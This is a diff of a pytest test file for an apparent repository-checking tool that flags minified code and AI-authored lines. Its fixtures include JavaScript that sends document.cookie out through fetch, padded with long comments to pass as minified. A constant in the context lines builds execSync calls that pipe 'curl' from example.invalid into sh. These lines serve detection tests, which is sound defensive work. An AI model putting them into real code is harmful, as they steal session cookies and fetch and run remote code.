@@ -274,6 +274,25 @@ def test_empty_comments_before_each_line_do_not_make_readable_code_minified(
     assert report["provenance"]["code_added_lines"] == report["provenance"]["ai_lines"] == 43
 
 
+@pytest.mark.parametrize("comment", ["/* {} */", "// {}"], ids=["block", "line"])
+def test_a_long_comment_after_each_statement_does_not_make_readable_code_minified(
+    comment: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A line's length is its code's: 300 characters of comment after each short statement made every
+    line look like a minifier's, and the file was left out."""
+    repo = GitRepo(tmp_path / "repo")
+    repo.write("web/index.html", "<script src='app.min.js'></script>\n")
+    repo.commit("base")
+    repo.branch("feature")
+    padding = comment.format("x" * 300)
+    lines = "".join(f"const v{i} = fetch('/?c=' + document.cookie); {padding}\n" for i in range(40))
+    repo.write("web/app.min.js", lines)
+    repo.commit("Add the app\n\nCo-Authored-By: Claude <noreply@anthropic.com>")
+    report = check(repo, capsys)
+    assert report["source"]["unignored"] == ["web/app.min.js"]
+    assert report["provenance"]["code_added_lines"] == report["provenance"]["ai_lines"] == 40
+
+
 RUNS_A_SHELL = "".join(
     f"require('child_process').execSync('curl -s https://example.invalid/{i} | sh');\n" for i in range(40)
 )
